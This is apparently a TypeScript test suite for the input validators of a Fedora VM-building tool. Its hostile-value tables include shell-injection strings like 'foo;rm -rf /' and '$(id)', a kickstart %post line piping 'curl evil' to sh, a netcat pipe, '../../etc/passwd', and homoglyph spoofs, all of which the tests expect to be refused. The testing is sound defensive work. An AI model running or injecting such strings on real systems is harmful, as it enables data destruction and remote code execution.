import fc from 'fast-check';
import { InputError } from '../../../src/util/errors.js';
import {
  describeValue,
  validateArch,
  validateAutostartCommand,
  validateConnectUri,
  validateDiskGb,
  validateFedoraRelease,
  validateFirewallRule,
  validateFlatpakId,
  validateGraphicsBackend,
  validateHostPath,
  validateLocationUrl,
  validateMemoryMb,
  validateNetworkMode,
  validatePackageSpec,
  validateSpec,
  validateVcpus,
  validateVirtType,
  validateVmName,
} from '../../../src/spec/validate.js';
import { defaultSpec, HARD_MAX_MEMORY_MB, MIN_MEMORY_MB } from '../../../src/spec/defaults.js';

/** Asserts `fn` throws a one-line InputError (exit 2) mentioning `fragment`. */
function expectRefused(fn: () => unknown, fragment?: string | RegExp): InputError {
  let caught: unknown;
  try {
    fn();
  } catch (err) {
    caught = err;
  }
  expect(caught).toBeInstanceOf(InputError);
  const err = caught as InputError;
  expect(err.exitCode).toBe(2);
  expect(err.message).not.toMatch(/[\n\r]/);
  // Printable ASCII only: hostile bytes are shown escaped, never raw.
  expect(err.message).toMatch(/^[\x20-\x7e]*$/);
  expect(err.message.length).toBeLessThan(400);
  if (fragment !== undefined) expect(err.message).toMatch(fragment);
  return err;
}

const TEN_KB = 'a'.repeat(10 * 1024);

/**
 * Values that must never pass any string grammar: shell, XML and kickstart
 * metacharacters, look-alikes, control characters and sheer size.
 */
const HOSTILE: string[] = [
  '',
  ' ',
  'a b',
  'foo;rm -rf /',
  'foo && reboot',
  'foo|nc evil 1',
  '$(id)',
  '${HOME}',
  '`id`',
  "foo'bar",
  'foo"bar',
  'foo\\bar',
  'foo\nbar',
  'foo\r\nbar',
  'foo\tbar',
  'foo\0bar',
  '\n%post\ncurl evil|sh\n%end',
  '%packages',
  'foo%{x}',
  '<domain>',
  'a]]><x/>',
  '&amp;',
  'foo>out',
  'foo<in',
  '#comment',
  'foo#bar x',
  '-rf',
  '--help',
  '../../etc/passwd',
  'org.mozillа.firefox', // Cyrillic а
  'gіt', // Cyrillic і
  'ｇｉｔ', // fullwidth
  'git\u200b', // zero-width space
  'git\u202e', // right-to-left override
  'fire\u00adfox', // soft hyphen
  'ﬁrefox', // ligature
  TEN_KB,
  `${TEN_KB};`,
  'x'.repeat(300),
  'a.b.' + 'c'.repeat(10 * 1024),
];

const STRING_VALIDATORS: Array<[string, (v: unknown) => unknown]> = [
  ['validateVmName', validateVmName],
  ['validateFlatpakId', validateFlatpakId],
  ['validatePackageSpec', validatePackageSpec],
  ['validateAutostartCommand', validateAutostartCommand],
  ['validateFirewallRule', validateFirewallRule],
  ['validateHostPath', (v) => validateHostPath('path', v)],
  ['validateConnectUri', validateConnectUri],
  ['validateLocationUrl', validateLocationUrl],
  ['validateArch', validateArch],
  ['validateVirtType', validateVirtType],
  ['validateGraphicsBackend', validateGraphicsBackend],
  ['validateNetworkMode', validateNetworkMode],
];

/** A plain two-word command is a legitimate auto-launch command, so that one table entry is skipped there. */
const LEGITIMATE: Record<string, string[]> = { validateAutostartCommand: ['a b'] };

describe.each(STRING_VALIDATORS)('%s refuses hostile values', (name, validate) => {
  const values = HOSTILE.filter((v) => !(LEGITIMATE[name] ?? []).includes(v));
  test.each(values.map((v) => [describeValue(v), v]))('%s', (_shown, value) => {
    expectRefused(() => validate(value));
  });

  test.each([[42], [null], [undefined], [true], [['git']], [{}]])('refuses the non-string %p', (value) => {
    expectRefused(() => validate(value));
  });
});

const HOSTILE_NUMBERS: unknown[] = [
  -1,
  -4096,
  0,
  1.5,
  4096.5,
  NaN,
  Infinity,
  -Infinity,
  Number.MAX_SAFE_INTEGER + 2,
  1e308,
  2n ** 70n,
  '-1',
  '+4096',
  '4096 ',
  ' 4096',
  '4g',
  '4096MB',
  '0x1000',
  '1e4',
  '4_096',
  '4,096',
  '٤٠٩٦', // Arabic-Indic digits
  '４０９６', // fullwidth digits
  '9'.repeat(10 * 1024),
  '',
  '$(id)',
  null,
  undefined,
  [4096],
  true,
];

describe.each([
  ['validateMemoryMb', (v: unknown) => validateMemoryMb(v, { hostMb: 16384 })],
  ['validateVcpus', (v: unknown) => validateVcpus(v, { hostCpus: 8 })],
  ['validateDiskGb', (v: unknown) => validateDiskGb(v)],
  ['validateFedoraRelease', (v: unknown) => validateFedoraRelease(v)],
])('%s refuses hostile numbers', (_name, validate) => {
  test.each(HOSTILE_NUMBERS.map((v) => [describeValue(v), v]))('%s', (_shown, value) => {
    expectRefused(() => validate(value));
  });
});

describe('describeValue', () => {
  test('escapes control and non-ASCII characters and truncates long values', () => {
    expect(describeValue('a"b\\c\n')).toBe('"a\\"b\\\\c\\n"');
    expect(describeValue('mozillа')).toBe('"mozill\\u0430"');
    expect(describeValue('x\u{1f600}')).toBe('"x\\u{1f600}"');
    const long = describeValue(TEN_KB);
    expect(long).toBe(`"${'a'.repeat(40)}..." (10240 characters)`);
  });

  test('names non-strings by kind', () => {
    expect(describeValue(12)).toBe('12');
    expect(describeValue(undefined)).toBe('nothing');
    expect(describeValue(['a'])).toBe('a list of 1');
  });
});

describe('validateVmName', () => {
  test.each(['a', 'firefox-vm', 'org-mozilla-firefox-vm', '0ad-vm', 'a'.repeat(63), 'a--b'])(
    'accepts %s',
    (v) => {
      expect(validateVmName(v)).toBe(v);
    },
  );
  test.each(['-vm', 'vm-', 'Firefox', 'my_vm', 'my.vm', 'a'.repeat(64), 'vm/x', '..'])('refuses %s', (v) => {
    expectRefused(() => validateVmName(v), /VM name .*1-63 characters/);
  });
  test('the message names the value and the rule', () => {
    expectRefused(
      () => validateVmName('Bad Name'),
      `invalid VM name "Bad Name": use 1-63 characters from a-z, 0-9 and '-', starting and ending with a letter or digit`,
    );
  });
});

describe('validateFlatpakId (Flatpak application ID rules)', () => {
  test.each([
    'org.mozilla.firefox',
    'com.visualstudio.code',
    'io.gitlab.librewolf-community',
    'org.gimp.GIMP',
    'com.jetbrains.IntelliJ-IDEA-Community',
    '_a._b._c',
    'a.b.c.d.e',
    'org.example.-odd',
    `a.b.${'c'.repeat(251)}`,
  ])('accepts %s', (v) => {
    expect(validateFlatpakId(v)).toBe(v);
  });
  test.each([
    ['org.mozilla', /at least 3/],
    ['firefox', /at least 3/],
    ['org..firefox', /empty element/],
    ['.org.mozilla.firefox', /empty element/],
    ['org.mozilla.firefox.', /empty element/],
    ['org.claws-mail.Claws-Mail', /only the last element may contain '-'/],
    ['org.1password.App', /may not start with a digit/],
    ['org.mozilla.9fox', /may not start with a digit/],
    ['org.mozilla.fire fox', /may only contain/],
    ['org.mozilla.fire/fox', /may only contain/],
    [`a.b.${'c'.repeat(252)}`, /longer than 255/],
  ])('refuses %s', (v, why) => {
    expectRefused(() => validateFlatpakId(v), why);
  });
});

describe('validatePackageSpec (dnf names, groups, environments, globs)', () => {
  test.each([
    'git',
    'gcc-c++',
    'python3.12',
    'kernel-6.*',
    'python3-3.12?',
    '0ad',
    'perl-Foo-Bar',
    'nodejs:20',
    'foo-1.0~rc1',
    'foo-1.0^git',
    'glibc.i686',
    '@base-x',
    '@^workstation-product-environment',
    '@development-tools',
  ])('accepts %s', (v) => {
    expect(validatePackageSpec(v)).toBe(v);
  });
  test.each([
    '-git', // %packages exclusion
    '@',
    '@^',
    '@Development Tools',
    '@-x',
    'pkgconfig(gtk+-3.0)',
    '/usr/bin/git',
    'git gcc',
    'git,gcc',
    'a'.repeat(201),
  ])('refuses %s', (v) => {
    expectRefused(() => validatePackageSpec(v), /package spec/);
  });
});

describe('resources', () => {
  test('memory: minimum, host maximum, --force, hard cap', () => {
    expect(validateMemoryMb('4096', { hostMb: 8192 })).toBe(4096);
    expect(validateMemoryMb(MIN_MEMORY_MB)).toBe(MIN_MEMORY_MB);
    expectRefused(() => validateMemoryMb(MIN_MEMORY_MB - 1), /at least 2048 MiB/);
    expectRefused(
      () => validateMemoryMb('16384', { hostMb: 8192 }),
      /more than this host's 8192 MiB .*--force/,
    );
    expect(validateMemoryMb('16384', { hostMb: 8192, force: true })).toBe(16384);
    expectRefused(() => validateMemoryMb(HARD_MAX_MEMORY_MB + 1, { force: true }), /even with --force/);
  });

  test('vCPUs: 1 to the host CPU count unless forced; never above 255', () => {
    expect(validateVcpus('1', { hostCpus: 2 })).toBe(1);
    expect(validateVcpus(2, { hostCpus: 2 })).toBe(2);
    expectRefused(() => validateVcpus(0), /at least 1/);
    expectRefused(() => validateVcpus('3', { hostCpus: 2 }), /host's 2 CPUs/);
    expect(validateVcpus('3', { hostCpus: 2, force: true })).toBe(3);
    expectRefused(() => validateVcpus(256, { force: true }), /at most 255/);
  });

  test('disk: 10 GB to 64 TiB', () => {
    expect(validateDiskGb('10')).toBe(10);
    expectRefused(() => validateDiskGb('9'), /at least 10 GB/);
    expectRefused(() => validateDiskGb(65537, { force: true }), /at most 65536 GB/);
  });

  test('Fedora release must be one the project supports', () => {
    expect(validateFedoraRelease('43')).toBe(43);
    expectRefused(() => validateFedoraRelease('40'), /supported releases are 41, 42, 43/);
  });
});

describe('validateAutostartCommand', () => {
  test.each([
    'flatpak run org.mozilla.firefox',
    'firefox',
    '/usr/bin/kitty',
    'firefox --new-window https://example.org/path',
    'code --user-data-dir=/home/user/.code',
    'kitty -e htop',
  ])('accepts %s', (v) => {
    expect(validateAutostartCommand(v)).toBe(v);
  });
  test.each([
    '@firefox', // ExecStart prefixes
    '-firefox',
    '+firefox',
    '!firefox',
    ':firefox',
    'firefox  --double-space',
    ' firefox',
    'firefox ',
    'firefox %U',
    'firefox $URL',
    'sh -c "x"',
    'firefox & disown',
    'relative/path',
    ['w'].concat(Array(64).fill('x')).join(' '),
  ])('refuses %s', (v) => {
    expectRefused(() => validateAutostartCommand(v), /auto-launch command/);
  });
});

describe('validateFirewallRule', () => {
  test.each([
    'OUTPUT -p udp --dport 53 -j ACCEPT',
    'OUTPUT -p tcp --dport 443 -j ACCEPT',
    'INPUT -j DROP',
    'OUTPUT -p tcp -d 10.0.2.2 --dport 9999 -j ACCEPT',
    'OUTPUT -p tcp -d 192.168.0.0/16 --dport 1000:2000 -j REJECT',
    'OUTPUT -d fd00::/8 -j DROP',
    'INPUT -p icmp -s 10.0.0.1 -j ACCEPT',
  ])('accepts %s', (v) => {
    expect(validateFirewallRule(v)).toBe(v);
  });
  test.each([
    ['FORWARD -j ACCEPT', /firewall rule/],
    ['OUTPUT -p tcp --dport 443', /no -j target/],
    ['OUTPUT --dport 443 -j ACCEPT', /needs -p tcp or -p udp/],
    ['OUTPUT -p icmp --dport 1 -j ACCEPT', /needs -p tcp or -p udp/],
    ['OUTPUT -p tcp --dport 0 -j ACCEPT', /firewall rule/],
    ['OUTPUT -p tcp --dport 65536 -j ACCEPT', /firewall rule/],
    ['OUTPUT -p tcp --dport 2000:1000 -j ACCEPT', /firewall rule/],
    ['OUTPUT -d 300.1.1.1 -j DROP', /firewall rule/],
    ['OUTPUT -d 10.0.0.0/33 -j DROP', /firewall rule/],
    ['OUTPUT -j ACCEPT -j DROP', /given twice/],
    ['OUTPUT -j LOG', /firewall rule/],
    ['OUTPUT -m state --state NEW -j ACCEPT', /firewall rule/],
    ['OUTPUT  -j ACCEPT', /firewall rule/],
    ['OUTPUT -j ACCEPT; reboot', /firewall rule/],
  ])('refuses %s', (v, why) => {
    expectRefused(() => validateFirewallRule(v), why);
  });
});

describe('paths, URIs and URLs', () => {
  test('host paths: absolute, plain characters, normalised', () => {
    expect(validateHostPath('p', '/var/lib/libvirt/images')).toBe('/var/lib/libvirt/images');
    expect(validateHostPath('p', '/var//lib/')).toBe('/var/lib');
    expectRefused(() => validateHostPath('p', 'relative/dir'), /absolute path/);
    expectRefused(() => validateHostPath('p', '/var/../etc'), /absolute path/);
    expectRefused(() => validateHostPath('p', '/my disks/x'), /absolute path/);
    expectRefused(() => validateHostPath('p', '/x/-rf'), /absolute path/);
  });

  test('libvirt URIs', () => {
    expect(validateConnectUri('qemu:///system')).toBe('qemu:///system');
    expect(validateConnectUri('qemu+ssh://user@host/system?keyfile=/k')).toBe(
      'qemu+ssh://user@host/system?keyfile=/k',
    );
    expectRefused(() => validateConnectUri('system'), /libvirt URI/);
    expectRefused(() => validateConnectUri('qemu:///system%zz'), /libvirt URI/);
  });

  test('install locations', () => {
    const url = 'https://dl.fedoraproject.org/pub/fedora/linux/releases/43/Everything/x86_64/os/';
    expect(validateLocationUrl(url)).toBe(url);
    expect(validateLocationUrl('http://10.0.2.2:8080/tree%20x/')).toBe('http://10.0.2.2:8080/tree%20x/');
    expectRefused(() => validateLocationUrl('file:///etc/passwd'), /http/);
    expectRefused(() => validateLocationUrl('https://host/a b'), /http/);
    expectRefused(() => validateLocationUrl('https://host/%zz'), /http/);
    expectRefused(() => validateLocationUrl('https://'), /http/);
  });

  test('enums list their values', () => {
    expect(validateNetworkMode('user')).toBe('user');
    expectRefused(() => validateNetworkMode('Nat'), /must be one of default, user, none/);
    expectRefused(() => validateVirtType('xen'), /must be one of kvm, qemu/);
  });
});

describe('validateSpec', () => {
  test('accepts the defaults and returns a normalised copy', () => {
    const spec = defaultSpec('firefox-vm', { flatpakPackages: ['org.mozilla.firefox'] });
    const checked = validateSpec({ ...spec, vmDir: '/var/lib/libvirt//images/' });
    expect(checked).toEqual({ ...spec, vmDir: '/var/lib/libvirt/images' });
  });

  test.each([
    ['name', 'Bad'],
    ['memoryMb', 1],
    ['vcpus', 0],
    ['diskSizeGb', 1],
    ['vmDir', 'images'],
    ['systemPackages', ['ok', 'bad pkg']],
    ['flatpakPackages', ['org.ok.App', 'bad']],
    ['autoLaunchApps', ['sh -c "x"']],
    ['firewallRules', ['nope']],
    ['graphicsBackend', 'vga'],
    ['networkMode', 'bridge'],
    ['fedoraRelease', 12],
    ['arch', 'i686'],
    ['virtType', 'xen'],
    ['enableAudio', 'yes'],
    ['systemPackages', 'git'],
    ['systemPackages', Array(501).fill('git')],
  ])('refuses a bad %s', (field, value) => {
    const spec = { ...defaultSpec('x'), [field]: value };
    expectRefused(() => validateSpec(spec));
  });
});

describe('property: whatever the input, a validator refuses it in one line or returns safe text', () => {
  // Characters that would mean something to a shell, a kickstart, systemd or XML.
  const DANGEROUS = /[\s"'`$;%|&<>\\#(){}!*?[\]]|[^\x20-\x7e]/;
  const SAFE_EXCEPT: Record<string, RegExp> = {
    // Globs are part of the dnf grammar; single spaces separate words of a command or rule.
    validatePackageSpec: /[\s"'`$;%|&<>\\#(){}![\]]|[^\x20-\x7e]/,
    validateAutostartCommand: /[\t\n\r"'`$;%|&<>\\#(){}!*?[\]]|[^\x20-\x7e]/,
    validateFirewallRule: /[\t\n\r"'`$;%|&<>\\#(){}!*?[\]]|[^\x20-\x7e]/,
    validateConnectUri: /[\s"'`$;|<>\\#(){}!*[\]]|[^\x20-\x7e]/,
    validateLocationUrl: /[\s"'`$;|<>\\#(){}!*[\]]|[^\x20-\x7e]/,
  };
  const arbitraryText = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 80 }),
    fc.string({ unit: fc.constantFrom(...'a.b-_@^:~*?/ %$;`"\'\n<>&0123456789'.split('')), maxLength: 40 }),
  );

  test.each(STRING_VALIDATORS)('%s', (name, validate) => {
    fc.assert(
      fc.property(arbitraryText, (text) => {
        let out: unknown;
        try {
          out = validate(text);
        } catch (err) {
          expect(err).toBeInstanceOf(InputError);
          expect((err as Error).message).toMatch(/^[\x20-\x7e]+$/);
          return;
        }
        expect(typeof out).toBe('string');
        expect(out as string).not.toMatch(SAFE_EXCEPT[name] ?? DANGEROUS);
      }),
      { numRuns: 400 },
    );
  });
});
